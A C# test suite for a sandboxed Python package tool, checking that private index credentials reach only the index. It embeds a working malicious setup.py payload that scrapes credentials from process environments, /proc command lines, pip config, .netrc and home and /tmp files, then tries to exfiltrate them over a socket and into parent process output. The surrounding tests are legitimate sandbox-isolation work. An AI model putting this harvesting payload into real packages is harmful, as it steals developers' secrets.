using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using CodeEnv.TestSupport;

namespace CodeEnv.Cmdlets.Tests;

/// <summary>
/// A served root whose package index needs credentials, and a package on that index whose setup.py, built by pip in
/// the sandbox during an update, hunts for them everywhere it could look, shows what it found (forward and reversed)
/// in pip's output and in a module it installs, and tries to send it away. All for real: the index is a real server on
/// loopback that demands Basic credentials, the service runs as its own account, alice runs her cmdlets in her own
/// process. The credentials must reach the index and nothing else.
/// </summary>
[Collection(ServedRootCollection.Name)]
public class ServedCredentialTests : IClassFixture<ServedCredentialTests.Server>
{
    private const string Alice = "codeenv-alice";

    private readonly Server server;

    public ServedCredentialTests(Server server)
    {
        this.server = server;
    }

    [AsRootFact]
    public void Pip_installs_from_the_index_that_needs_credentials_and_the_index_sees_them_on_every_request()
    {
        Assert.True(server.Install.ExitCode == 0 && server.Install.Lines()[^1] == "Ready", server.Install.Output + server.Install.Error);
        var requests = server.IndexRequests();
        Assert.Contains(requests, r => r.StartsWith("GET /files/leaky-1.0.tar.gz ", StringComparison.Ordinal));
        Assert.Contains(requests, r => r.StartsWith("GET /files/setuptools-", StringComparison.Ordinal));
        Assert.All(requests, r => Assert.EndsWith(" " + Server.Authorization, r));
    }

    [AsRootFact]
    public void The_lock_records_each_file_at_the_indexs_own_url_without_credentials_and_with_its_sha256()
    {
        var installed = Newtonsoft.Json.Linq.JObject.Parse(File.ReadAllText(Path.Combine(server.Served.EnvFolder("leaky-env"), "installed.json")));
        var leaky = ((Newtonsoft.Json.Linq.JArray)installed["packages"]!).Single(p => (string)p["name"]! == "leaky")["artifact"]!;
        var served = Path.Combine(server.Served.Shared, "index", "leaky-1.0.tar.gz");

        Assert.Equal($"http://127.0.0.1:{server.IndexPort}/files/leaky-1.0.tar.gz", (string)leaky["url"]!);
        Assert.Equal("leaky-1.0.tar.gz", (string)leaky["fileName"]!);
        Assert.Equal(Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(served))).ToLowerInvariant(), (string)leaky["sha256"]!);
    }

    [AsRootFact]
    public void The_build_backend_found_no_credentials_and_nothing_a_user_can_read_shows_them()
    {
        // The package's code did run: it wrote what it found into the module it installs.
        var generation = LatestGeneration("leaky-env");
        var loot = Directory.EnumerateFiles(generation, "leaky.py", new EnumerationOptions { RecurseSubdirectories = true, AttributesToSkip = FileAttributes.ReparsePoint }).Single();
        Assert.Contains("LOOT = ", File.ReadAllText(loot));

        var readable = new Dictionary<string, string>
        {
            ["alice's -Verbose output"] = server.Install.Output + server.Install.Error,
        };
        foreach (var file in Directory.EnumerateFiles(server.Served.EnvFolder("leaky-env"), "*", new EnumerationOptions { RecurseSubdirectories = true, AttributesToSkip = FileAttributes.ReparsePoint }))
        {
            readable[file] = Encoding.Latin1.GetString(File.ReadAllBytes(file));
        }

        Assert.Contains(readable["alice's -Verbose output"].Split('\n'), l => l.Contains("Successfully installed leaky-1.0"));
        foreach (var (where, text) in readable)
        {
            Assert.False(server.ShowsTheSecret(text), $"{where} shows the index's credentials");
        }
    }

    [AsRootFact]
    public void A_failing_build_backend_puts_no_credentials_into_the_error_its_owner_sees()
    {
        var failed = server.Served.Run(Alice, $"New-CodeEnv broken-env -Interpreter {ServedRootHost.Python} -NoInstall | Out-Null; try {{ Add-CodeEnvPackage broken-env leaky-broken -Update -ErrorAction Stop }} catch {{ $_.FullyQualifiedErrorId; $_.Exception.Message }}");

        Assert.StartsWith("PythonCommandFailed,", failed.Output.Trim());
        // setup.py's lines reached the error: it wrote them straight to pip's stderr, where pip's own errors go.
        Assert.Contains("ERROR: leaked", failed.Output);
        Assert.False(server.ShowsTheSecret(failed.Output + failed.Error), "the error text shows the index's credentials:\n" + failed.Output);
        foreach (var log in Directory.GetFiles(Path.Combine(server.Served.EnvFolder("broken-env"), "logs")))
        {
            Assert.False(server.ShowsTheSecret(File.ReadAllText(log)), $"{log} shows the index's credentials");
        }
    }

    [AsRootFact]
    public void The_build_backend_reaches_no_network_but_the_roots_own_sources()
    {
        var report = File.ReadAllLines(Path.Combine(LatestGeneration("leaky-env"), "leaky-report.txt"));

        Assert.Contains(report, l => l.StartsWith("BLOCKED listener", StringComparison.Ordinal));
        Assert.Contains(report, l => l.StartsWith("BLOCKED index", StringComparison.Ordinal));
        Assert.Equal(0, server.ListenerConnections);
        Assert.All(server.IndexRequests(), r => Assert.EndsWith(" " + Server.Authorization, r));
    }

    private string LatestGeneration(string env) =>
        Directory.GetDirectories(Path.Combine(server.Served.EnvFolder(env), "venvs")).Where(d => Path.GetFileName(d).All(char.IsAsciiDigit)).OrderBy(d => int.Parse(Path.GetFileName(d))).Last();

    /// <summary>
    /// The served root (alice may create envs; its sources are the index that needs credentials and the root's
    /// find-links folder), the index, a TCP listener on the host's loopback that no sandbox may reach, and alice's
    /// install of the package that hunts for the credentials, with her -Verbose output.
    /// </summary>
    public sealed class Server : ServedRootFixture
    {
        public const string Secret = "gw-s3cret-token-0815";

        public static readonly string Authorization = "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes("user:" + Secret));

        // A PEP 503 index: /simple/<project>/ lists the project's files (with their sha256) under /files/; every
        // request is recorded with the Authorization it came with, and one without the right one gets 401.
        private const string IndexServer = """
            import base64, hashlib, html, http.server, os, re, sys
            folder, port_file, seen_file, expected = sys.argv[1:5]
            def project(filename):
                stem = filename[:-len('.tar.gz')].rsplit('-', 1)[0] if filename.endswith('.tar.gz') else filename.split('-')[0]
                return re.sub(r'[-_.]+', '-', stem).lower()
            class Index(http.server.BaseHTTPRequestHandler):
                def log_message(self, *args): pass
                def do_HEAD(self): self.answer(False)
                def do_GET(self): self.answer(True)
                def answer(self, body):
                    auth = self.headers.get('Authorization', '')
                    with open(seen_file, 'a') as seen: seen.write('%s %s %s\n' % (self.command, self.path, auth))
                    if auth != 'Basic ' + base64.b64encode(expected.encode()).decode():
                        self.send_response(401); self.send_header('WWW-Authenticate', 'Basic realm="index"'); self.end_headers(); return
                    parts = [p for p in self.path.split('/') if p]
                    if len(parts) == 2 and parts[0] == 'simple':
                        links = ''.join('<a href="/files/%s#sha256=%s" data-requires-python="%s">%s</a><br>\n' % (f, hashlib.sha256(open(os.path.join(folder, f), 'rb').read()).hexdigest(), html.escape('>=3.7'), f)
                                        for f in sorted(os.listdir(folder)) if project(f) == parts[1])
                        data = ('<!DOCTYPE html><html><body>\n%s</body></html>' % links).encode()
                        kind = 'text/html'
                    elif len(parts) == 2 and parts[0] == 'files' and os.path.isfile(os.path.join(folder, parts[1])):
                        data = open(os.path.join(folder, parts[1]), 'rb').read()
                        kind = 'application/octet-stream'
                    else:
                        self.send_response(404); self.end_headers(); return
                    self.send_response(200); self.send_header('Content-Type', kind); self.send_header('Content-Length', str(len(data))); self.end_headers()
                    if body: self.wfile.write(data)
            server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Index)
            open(port_file, 'w').write(str(server.server_address[1]))
            server.serve_forever()
            """;

        // Looks for credentials everywhere a build backend could: its environment, the environment and command line of
        // every process it can see (its ancestors first), pip's config files, every file under /tmp and HOME. Then tries
        // the network: a listener on the host's loopback and the index itself, without credentials. It says what it
        // found, forward and reversed, on its own output and straight into pip's (its ancestors' stdout and stderr, as
        // "ERROR:" lines, which pip's own errors are), in a report in its venv and in the module it installs.
        private const string Payload = """
            import base64, os, re, socket, sys, urllib.request
            URL_WITH_USER = re.compile(r'[A-Za-z][A-Za-z0-9+.-]*://[^\s/@\'"]+@[^\s\'"<>]*')
            BASIC = re.compile(r'Basic\s+([A-Za-z0-9+/=]{8,})')
            found = set()
            def look(text):
                found.update(URL_WITH_USER.findall(text))
                for token in BASIC.findall(text):
                    try: decoded = base64.b64decode(token, validate=True).decode('ascii')
                    except Exception: continue
                    if ':' in decoded and decoded.isprintable(): found.add(decoded)
            def read(path):
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 4000000:
                        with open(path, 'rb') as f: return f.read().replace(b'\0', b' ').decode('latin-1')
                except OSError: pass
                return ''
            def ancestors():
                pid = os.getpid()
                while pid > 0:
                    yield pid
                    try: pid = int(read('/proc/%d/stat' % pid).rsplit(')', 1)[1].split()[1])
                    except (IndexError, ValueError): break
            for name, value in os.environ.items():
                look(value)
                if name.startswith('PIP_'): found.add(name + '=' + value)
            for pid in list(ancestors()) + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
                look(read('/proc/%d/environ' % pid)); look(read('/proc/%d/cmdline' % pid))
            home = os.path.expanduser('~')
            for path in ('/etc/pip.conf', '/etc/xdg/pip/pip.conf', home + '/.pip/pip.conf', home + '/.config/pip/pip.conf', home + '/.netrc', os.environ.get('PIP_CONFIG_FILE', '')):
                look(read(path))
            for top in ('/tmp', home):
                for folder, _, files in os.walk(top):
                    for name in files: look(read(os.path.join(folder, name)))
            report = []
            def attempt(what, action):
                try:
                    action(); report.append('REACHED ' + what)
                except Exception as e:
                    report.append('BLOCKED %s %s' % (what, type(e).__name__))
            def send():
                with socket.create_connection(('127.0.0.1', LISTENER), timeout=5) as s: s.sendall('\n'.join(sorted(found)).encode())
            def fetch():
                urllib.request.build_opener(urllib.request.ProxyHandler({})).open(INDEX + 'leaky/', timeout=5).read()
            attempt('listener', send)
            attempt('index', fetch)
            report += ['FOUND ' + s for s in sorted(found)] + ['REVERSED ' + s[::-1] for s in sorted(found)]
            text = '\n'.join(report) + '\n'
            sys.stdout.write(text); sys.stderr.write(text)
            for pid in ancestors():
                for fd in (1, 2):
                    try:
                        with open('/proc/%d/fd/%d' % (pid, fd), 'w') as out: out.write(''.join('ERROR: leaked ' + line + '\n' for line in report))
                    except OSError: pass
            for path in (os.path.join(sys.prefix, 'leaky-report.txt'), MODULE):
                try:
                    with open(path, 'w') as f: f.write(('VERSION = %r\nLOOT = %r\n' % ('1.0', report)) if path == MODULE else text)
                except OSError: pass

            """;

        private readonly List<Process> processes = new();
        private TcpListener? listener;
        private int listenerConnections;
        private string seenFile = "";

        public Server()
            : base((Alice, Creators))
        {
        }

        /// <summary>alice's New-CodeEnv of the package that hunts for the credentials, with -Verbose, then the env's state.</summary>
        public ShellProcess.Result Install { get; private set; } = new(-1, "", "");

        /// <summary>The loopback port of the test index.</summary>
        public int IndexPort { get; private set; }

        public int ListenerConnections => Volatile.Read(ref listenerConnections);

        /// <summary>Every request the index got: method, path, Authorization.</summary>
        public string[] IndexRequests() => File.ReadAllLines(seenFile);

        public bool ShowsTheSecret(string text) =>
            text.Contains(Secret, StringComparison.Ordinal) || text.Contains(new string(Secret.Reverse().ToArray()), StringComparison.Ordinal);

        public override void Dispose()
        {
            foreach (var process in processes)
            {
                process.Kill(entireProcessTree: true);
                process.Dispose();
            }

            listener?.Stop();
            base.Dispose();
        }

        protected override void Arrange(ServedRootHost root)
        {
            listener = new TcpListener(IPAddress.Loopback, 0);
            listener.Start();
            _ = Task.Run(async () =>
            {
                while (true)
                {
                    using var connection = await listener.AcceptTcpClientAsync();
                    Interlocked.Increment(ref listenerConnections);
                }
            });

            var folder = Path.Combine(root.Shared, "index");
            BuildTools.CopyTo(folder);
            var port = StartIndex(folder, root.Shared);
            IndexPort = port;
            var index = $"http://127.0.0.1:{port}/simple/";
            foreach (var (name, ending) in new[] { ("leaky", ""), ("leaky-broken", "raise SystemExit('leaky-broken fails on purpose')\n") })
            {
                var prelude = $"LISTENER = {((IPEndPoint)listener.LocalEndpoint).Port}\nINDEX = {JsonSerializer.Serialize(index)}\nMODULE = {JsonSerializer.Serialize(name.Replace('-', '_') + ".py")}\n" + Payload + ending;
                // Built in an isolated build environment: pip installs setuptools and wheel into it from the index by a pip of its own.
                SdistBuilder.Write(folder, name, "1.0", setupPrelude: prelude, pyprojectToml: "[build-system]\nrequires = [\"setuptools\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta:__legacy__\"\n");
            }

            ShellProcess.Run(new[] { "-Command", $"Set-CodeEnvRoot -Root '{root.Root}' -NoIndex:$false -IndexUrl '{$"http://user:{Secret}@127.0.0.1:{port}/simple"}' -TrustedHost 127.0.0.1" }).AssertSucceeded();
            Install = root.Run(Alice, $"New-CodeEnv leaky-env -Interpreter {ServedRootHost.Python} -Requirement leaky -Verbose 4>&1 | ForEach-Object {{ if ($_ -is [System.Management.Automation.VerboseRecord]) {{ 'verbose: ' + $_.Message }} }}; (Get-CodeEnv leaky-env).State");
        }

        private int StartIndex(string folder, string scratch)
        {
            var portFile = Path.Combine(scratch, "index-port");
            seenFile = Path.Combine(scratch, "index-requests");
            var script = Path.Combine(scratch, "index.py");
            File.WriteAllText(script, IndexServer);
            processes.Add(Process.Start(new ProcessStartInfo(ServedRootHost.Python, new[] { script, folder, portFile, seenFile, "user:" + Secret }))!);
            Patience.WaitUntil(() => File.Exists(portFile) && File.ReadAllText(portFile).Length > 0, "the test index did not start");

            return int.Parse(File.ReadAllText(portFile));
        }
    }
}
